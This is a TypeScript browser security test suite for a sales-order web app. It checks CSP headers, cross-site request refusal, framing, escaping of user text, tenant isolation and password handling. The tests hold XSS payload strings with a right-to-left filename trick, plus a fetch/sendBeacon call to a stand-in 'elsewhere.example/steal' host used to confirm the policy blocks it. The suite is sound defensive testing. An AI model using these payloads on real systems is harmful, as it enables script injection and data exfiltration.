/** What the browser is forbidden, and what others wrote and cannot do. */
import { expect } from 'chai';
import { it } from 'mocha';
import { shown } from '../../test/api/kit.ts';
import { until } from '../../test/support/until.ts';
import { routes } from '../src/routes.ts';
import { draft, seedCatalog } from './support/seed.ts';
import { withStage } from './support/stage.ts';

const hostile = 'Order <img src=x onerror=alert(1)> javascript:alert(2) \u202Efdp.exe';
/** Without a place to break, as codes and names of files may be. */
const endless = 'W'.repeat(60);
const stage = withStage(async (api) => {
  await seedCatalog(api);
});

const policy = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self'",
  "font-src 'self'",
  "connect-src 'self'",
  "form-action 'self'",
  "base-uri 'none'",
  "frame-ancestors 'none'",
  "require-trusted-types-for 'script'",
  "trusted-types 'none'",
];

stage.suite('security', () => {
  it('9 shell and assets come with exactly this policy', async () => {
    const { url } = stage.api();
    const shell = await fetch(`${url}/app/orders`);
    const script = /src="(\/app\/assets\/[^"]+)"/.exec(await shell.text())?.[1] ?? '';
    for (const response of [shell, await fetch(url + script), await fetch(`${url}/app/icon.svg`)])
      expect(response.headers.get('content-security-policy')?.split(';')).to.have.members(policy);
  });

  it('10 another site cannot act: its posts, those without our header, and two credentials are refused', async () => {
    const page = await stage.open('/settings');
    await page.getByRole('heading', { name: 'Settings' }).waitFor();
    const [cookie] = await page.context().cookies();
    const asked = (headers: Record<string, string>) =>
      fetch(`${stage.api().url}/sales/warehouses/`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', cookie: `${cookie?.name}=${cookie?.value}`, ...headers },
        body: '{"code":"X","name":"X"}',
      }).then(({ status }) => status);
    expect(await asked({ 'x-order-intake': '1', 'sec-fetch-site': 'cross-site' })).to.equal(403);
    expect(await asked({})).to.equal(403);
    expect(await asked({ 'x-order-intake': '1', authorization: 'Bearer x' })).to.equal(400);
  });

  it('11 no page is framed', async () => {
    const { page } = await stage.visit('/icon.svg');
    await page.route('**/framing', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${stage.api().url}/app/"></iframe>` }),
    );
    await page.goto('/framing');
    await until('the refusal', async () => page.frames().some((frame) => frame.url().startsWith('chrome-error')));
    stage.faults();
    expect((await fetch(`${stage.api().url}/app/`)).headers.get('x-frame-options')).to.equal('DENY');
  });

  it('12 what others wrote is text: it runs nothing, links nowhere, deceives nobody, and no word of it widens a page', async () => {
    const { emailId, orderId } = await draft(
      stage.api(),
      { po: '<img onerror=alert(3)>\u202E', company: hostile, lines: [{ code: null, name: hostile, qty: '1', price: '1' }] },
      { subject: `${hostile} ${endless}` },
    );
    const send = await stage.send();
    const { body: product } = await send('POST', '/sales/products/', { body: { name: hostile, code: endless } });
    await shown(send, `/sales/products/${product.id}/`);
    await shown(send, `/sales/sales-orders/${orderId}/`);
    await shown(send, `/sales/email-logs/${emailId}/`, ({ body }) => body.status !== 'PENDING');
    const paths = [
      `/logs/${emailId}`,
      `/orders/${orderId}`,
      `/review/${orderId}`,
      '/logs',
      '/orders',
      `/catalog/products/${product.id}`,
    ];
    for (const path of paths) {
      const page = await stage.open(path);
      page.on('dialog', () => expect.fail('a script ran'));
      await page
        .getByText('[U+202E]')
        .first()
        .waitFor()
        .catch(async () => expect.fail(`${path}: ${await page.locator('main').innerText()}`));
      expect(await page.locator('main img[src=x]').count()).to.equal(0);
      expect(await page.locator('main a[href^="javascript"]').count()).to.equal(0);
      await page.setViewportSize({ width: 390, height: 900 });
      const overhang = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      await until(`${path} to fit a telephone`, async () => (await overhang()) <= 0);
    }
  });

  it('15 the ids of another company are nothing, on every detail route', async () => {
    const { orderId, emailId } = await draft(stage.api(), { po: 'PO-15' });
    const send = await stage.send();
    await shown(send, `/sales/sales-orders/${orderId}/`);
    const product = (await send('GET', '/sales/products/')).body[0].id;
    const customer = (await send('GET', '/sales/customers/')).body[0].id;
    const known: Record<string, string> = { order: orderId, reviewOne: orderId, log: emailId, product, customer };
    const page = await stage.open('/', { companyId: stage.api().otherCompanyId });
    const detailed = Object.entries(routes).filter(([, { path }]) => path.includes(':id'));
    expect(detailed.length).to.be.greaterThan(7);
    for (const [name, { to }] of detailed) {
      await page.goto(`/app${(to as (params: Record<string, string>) => string)({ id: known[name] ?? orderId })}`);
      await page.getByText('Not found').waitFor();
    }
  });

  it('16 nothing that runs in the page can ask another origin, and a test would see it', async () => {
    const seen: string[] = [];
    const page = await stage.open('/settings');
    const asked = await page.evaluate(async () => {
      const tried = [fetch('https://elsewhere.example/steal'), navigator.sendBeacon('https://elsewhere.example/steal')];
      return (await Promise.allSettled(tried)).map(({ status }) => status);
    });
    expect(asked[0]).to.equal('rejected');
    await until('the violation', async () => {
      seen.push(...stage.faults());
      return seen.some((fault) => /policy|Content Security Policy/.test(fault));
    });
    // both ways are told of, each in its time: they are what was to be seen
    await page.close();
    seen.push(...stage.faults());
    expect(seen.filter((fault) => !/policy|Content Security Policy/.test(fault))).to.deep.equal([]);
  });

  it('17 a password is in no field, answer or history once it is saved', async () => {
    const page = await stage.open('/mailboxes/new?module=HR');
    const answers: string[] = [];
    page.on('response', async (response) => {
      if (response.url().includes('/sales/')) answers.push(await response.text().catch(() => ''));
    });
    await page.getByLabel('Email address', { exact: true }).fill('hr@seller.example');
    await page.getByLabel('Password').fill('a very secret word');
    await page.getByLabel('Server', { exact: true }).first().fill('127.0.0.1');
    await page.getByLabel('Server', { exact: true }).last().fill('127.0.0.1');
    await page.getByRole('button', { name: 'Save' }).click();
    await page
      .getByRole('heading', { name: 'hr@seller.example' })
      .waitFor()
      .catch(async () => expect.fail(await page.locator('main').innerText()));
    await page.getByRole('list', { name: 'History' }).waitFor();
    expect(await page.getByLabel('Password').inputValue()).to.equal('');
    expect(await page.content()).not.to.contain('a very secret word');
    expect(answers.join('\n')).not.to.contain('a very secret word');
  });

  it('a program’s key says when it stops, and its company for how long it holds without whoever made it', async () => {
    const page = await stage.open('/settings');
    await (await stage.send())('POST', '/sales/api-keys/', { body: { name: 'Warehouse system' } });
    const days = page.getByLabel('API keys expire after (days)');
    expect(await days.inputValue()).to.equal('45');
    await days.fill('30');
    await page.getByRole('main').getByRole('button', { name: 'Save' }).first().click();
    await until('the setting', async () => {
      const { body } = await (await stage.send())('GET', '/sales/company-settings/');
      return body.key_maker_days === 30;
    });
    await page.reload();
    const row = page.getByRole('listitem').filter({ hasText: 'Warehouse system' });
    await row.getByText(/never used · stops working on .+ unless its creator signs in before/).waitFor();
  });

  it('a number that is taken out of the settings, or cannot be read, is told of and never saved as 0', async () => {
    const page = await stage.open('/settings');
    const least = page.getByLabel('Confidence threshold for uploads');
    const save = page.getByRole('main').getByRole('button', { name: 'Save' }).first();
    await least.fill('');
    await save.click();
    await page.getByText('Enter a whole number.').waitFor();
    await least.fill('71');
    await page.getByLabel('API keys expire after (days)').press('e');
    await save.click();
    await page.getByText('Enter a valid value.').waitFor();
    const { body } = await (await stage.send())('GET', '/sales/company-settings/');
    expect(body.min_confidence_threshold).to.equal(70);
    expect(await page.getByLabel('Name', { exact: true }).first().getAttribute('readonly')).to.equal('');
  });
});
